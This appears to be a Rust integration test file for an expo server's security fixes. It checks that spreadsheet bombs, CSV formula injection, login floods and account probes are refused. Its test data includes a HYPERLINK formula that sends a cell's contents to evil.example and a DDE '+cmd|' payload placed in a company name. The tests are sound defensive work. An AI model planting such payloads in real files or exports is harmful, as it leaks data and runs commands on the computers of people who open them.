//! The attacks of issue 16, each reproduced against a real node: hostile spreadsheets, formula
//! injection in exports, consent bypasses and lookups by id, sign-in floods, attachment floods
//! and the smaller findings. After every attack the node must still serve a normal client and
//! the records must be intact.

use crate::booths::company_with_staff;
use crate::both_engines;
use crate::helpers::*;
use expo_schema::api::*;
use expo_schema::ErrorCode;
use serde_json::json;
use std::time::Duration;

/// A raw HTTP client for what `Api` hides (status codes, headers).
fn http() -> reqwest::Client {
    reqwest::Client::new()
}

/// The node still answers a normal client: the organizer signs in and lists halls.
async fn still_serves(app: &TestApp) {
    let admin = app.admin().await;
    let _: HallList = admin
        .get("/api/v1/halls")
        .await
        .expect("the node still serves");
}

/// An XLSX workbook with the given cells (0-based row, column, text).
fn xlsx(cells: &[(u32, u16, &str)]) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (row, col, text) in cells {
        sheet.write_string(*row, *col, *text).unwrap();
    }
    book.save_to_buffer().unwrap()
}

/// A dry-run import of halls: the status and the report.
async fn dry_run(app: &TestApp, admin: &expo_client::Api, body: Vec<u8>) -> (u16, ImportReport) {
    let response = http()
        .post(format!("{}/api/v1/import/halls?dry_run=true", app.base))
        .bearer_auth(admin.token().unwrap())
        .body(body)
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    (status, response.json().await.unwrap())
}

async fn spreadsheet_bombs_are_refused(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start().await;
    let admin = app.admin().await;
    // Finding 1: the cells A1 and XFD1048576 once made the reader allocate 512 GiB.
    let bomb = xlsx(&[(0, 0, "slug"), (1_048_575, 16_383, "x")]);
    assert!(bomb.len() < 10_000, "the attack file is small");
    let (status, report) = dry_run(&app, &admin, bomb).await;
    assert_eq!(status, 422);
    assert!(
        report.errors[0].message.contains("at most"),
        "the limit is named: {report:?}"
    );
    // A sheet that is wide rather than tall, and a CSV with too many columns or a huge line.
    let wide = xlsx(&[(0, 0, "slug"), (1, 5_000, "x")]);
    assert_eq!(dry_run(&app, &admin, wide).await.0, 422);
    let many_columns = format!("slug{}\n", ",x".repeat(1000));
    let (status, report) = dry_run(&app, &admin, many_columns.into_bytes()).await;
    assert_eq!(status, 422);
    assert!(report.errors[0].message.contains("columns"), "{report:?}");
    let long_line = format!("slug,name\nfood,{}\n", "a".repeat(100 * 1024));
    let (status, report) = dry_run(&app, &admin, long_line.into_bytes()).await;
    assert_eq!(status, 422);
    assert!(report.errors[0].message.contains("KiB"), "{report:?}");
    // A normal import still works afterwards.
    let good = xlsx(&[
        (0, 0, "slug"),
        (0, 1, "name"),
        (0, 2, "industry"),
        (1, 0, "food"),
        (1, 1, "Hall A"),
        (1, 2, "food"),
    ]);
    let report: ImportReport = admin
        .post_bytes("/api/v1/import/halls", good)
        .await
        .unwrap();
    assert_eq!(report.created, 1, "{report:?}");
    still_serves(&app).await;
    app.stop().await;
}

/// Reads a CSV export into rows of cells.
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";

async fn csv_exports_carry_no_formulas(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start().await;
    let admin = app.admin().await;
    let (company, staff) = company_with_staff(&app, &admin, "101-81-16002", "s@csv.example").await;
    // Finding 2a: a buyer whose name is a formula visits the booth.
    let _: RegistrationReceived = app
        .api
        .post(
            "/api/v1/auth/register",
            &json!({"email": "evil@csv.example", "password": "evil-password", "name": FORMULA,
                "company_name": "@SUM(1+1)", "country": "RU", "timezone": "Asia/Vladivostok",
                "share_contact": true}),
        )
        .await
        .unwrap();
    app.approve("evil@csv.example").await;
    let (evil, _) = app
        .api
        .login("evil@csv.example", "evil-password")
        .await
        .unwrap();
    let hub = evil.connect().await.unwrap();
    hub.subscribe(&format!("booth:{}", company.id))
        .await
        .unwrap();
    hub.close();
    eventually(Duration::from_secs(5), "the visit is recorded", || async {
        let r: LeadReport = staff
            .get(&format!("/api/v1/companies/{}/leads", company.id))
            .await
            .unwrap();
        r.leads.len() == 1
    })
    .await;
    let rows = csv_rows(
        &staff
            .get_bytes(&format!("/api/v1/companies/{}/leads.csv", company.id))
            .await
            .unwrap(),
    );
    let lead = &rows[1];
    assert_eq!(lead[0], format!("'{FORMULA}"), "the name is text: {lead:?}");
    assert_eq!(lead[2], "'@SUM(1+1)");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '@']),
                "a formula in the leads CSV: {cell}"
            );
        }
    }
    // Finding 2b: plain staff rename their company to a formula; the organizers' export.
    let mut input: serde_json::Value = json!({"reg_no": "101-81-16002", "name": "+cmd|' /C calc'!A0",
        "hall_id": company.hall_id, "country": "KR"});
    input["tags"] = json!([]);
    let _: expo_schema::Company = staff
        .put(&format!("/api/v1/companies/{}", company.id), &input)
        .await
        .unwrap();
    let rows = csv_rows(&admin.get_bytes("/api/v1/reports/booths.csv").await.unwrap());
    let names: Vec<&String> = rows
        .iter()
        .flatten()
        .filter(|c| c.contains("cmd|"))
        .collect();
    assert!(!names.is_empty(), "the renamed booth is in the report");
    for name in names {
        assert!(name.starts_with('\''), "the booth name is text: {name}");
    }
    still_serves(&app).await;
    app.stop().await;
}

async fn sign_in_is_throttled(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start_with(|c| c.login_window_secs = 3).await;
    let _victim = app.buyer("victim@throttle.example").await;
    // Finding 4: 25 wrong passwords in a row, then the right one.
    let mut codes = Vec::new();
    for _ in 0..25 {
        let error = app
            .api
            .login("victim@throttle.example", "wrong-password")
            .await
            .unwrap_err();
        codes.push(error.code());
    }
    let wrong = codes
        .iter()
        .filter(|c| **c == Some(ErrorCode::InvalidCredentials))
        .count();
    assert_eq!(wrong, 5, "five failures are heard: {codes:?}");
    assert!(codes[5..]
        .iter()
        .all(|c| *c == Some(ErrorCode::RateLimited)));
    let locked = app
        .api
        .login("victim@throttle.example", "buyer-password")
        .await
        .unwrap_err();
    assert_eq!(locked.code(), Some(ErrorCode::RateLimited));
    // Unknown emails are throttled alike (they too cost a hash when heard).
    for _ in 0..5 {
        let _ = app.api.login("nobody@throttle.example", "x-password").await;
    }
    let unknown = app
        .api
        .login("nobody@throttle.example", "x-password")
        .await
        .unwrap_err();
    assert_eq!(unknown.code(), Some(ErrorCode::RateLimited));
    // Other accounts are not locked, and once the window passes the right password works.
    still_serves(&app).await;
    tokio::time::sleep(Duration::from_millis(3_100)).await;
    app.api
        .login("victim@throttle.example", "buyer-password")
        .await
        .expect("the lock ends with the window");
    app.stop().await;
}

async fn sign_in_is_throttled_per_address(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env
        .start_with(|c| {
            c.login_max_failures_per_address = 8;
        })
        .await;
    // Many accounts, each under its own limit, from one address.
    let mut codes = Vec::new();
    for i in 0..10 {
        let error = app
            .api
            .login(&format!("spray{i}@throttle.example"), "spray-password")
            .await
            .unwrap_err();
        codes.push(error.code());
    }
    assert!(codes[..8]
        .iter()
        .all(|c| *c == Some(ErrorCode::InvalidCredentials)));
    assert!(codes[8..]
        .iter()
        .all(|c| *c == Some(ErrorCode::RateLimited)));
    // The failures are stored, so a second node sharing the database refuses too.
    let other = env
        .start_with(|c| c.login_max_failures_per_address = 8)
        .await;
    let error = other
        .api
        .login("another@throttle.example", "spray-password")
        .await
        .unwrap_err();
    assert_eq!(error.code(), Some(ErrorCode::RateLimited));
    other.stop().await;
    app.stop().await;
}

async fn weak_passwords_and_account_probes(engines: Engines) {
    let env = TestEnv::new(engines).await;
    let app = env.start().await;
    let register = |email: &str, password: &str| {
        json!({"email": email, "password": password, "name": "Probe", "company_name": "Probe Co",
            "country": "RU", "timezone": "Asia/Vladivostok"})
    };
    for weak in ["12345678", "password1", "aaaaaaaaaa", "qwertyuiop"] {
        let error = app
            .api
            .post::<RegistrationReceived>(
                "/api/v1/auth/register",
                &register("weak@probe.example", weak),
            )
            .await
            .unwrap_err();
        assert_eq!(error.code(), Some(ErrorCode::Validation), "{weak}");
    }
    // Registration answers the same for a new email and for one with an account.
    let first: RegistrationReceived = app
        .api
        .post(
            "/api/v1/auth/register",
            &register("taken@probe.example", "strong-pass-1"),
        )
        .await
        .unwrap();
    let response = http()
        .post(format!("{}/api/v1/auth/register", app.base))
        .json(&register("taken@probe.example", "strong-pass-2"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 202);
    let again: RegistrationReceived = response.json().await.unwrap();
    assert_eq!(again, first);
    let organizer = http()
        .post(format!("{}/api/v1/auth/register", app.base))
        .json(&register(ADMIN_EMAIL, "strong-pass-3"))
        .send()
        .await
        .unwrap();
    assert_eq!(organizer.status(), 202, "no hint that the organizer exists");
    // The first registration's password stands.
    app.approve("taken@probe.example").await;
    app.api
        .login("taken@probe.example", "strong-pass-1")
        .await
        .unwrap();
    app.stop().await;
}

both_engines!(
    spreadsheet_bombs_are_refused,
    csv_exports_carry_no_formulas,
    sign_in_is_throttled,
    sign_in_is_throttled_per_address,
    weak_passwords_and_account_probes,
);
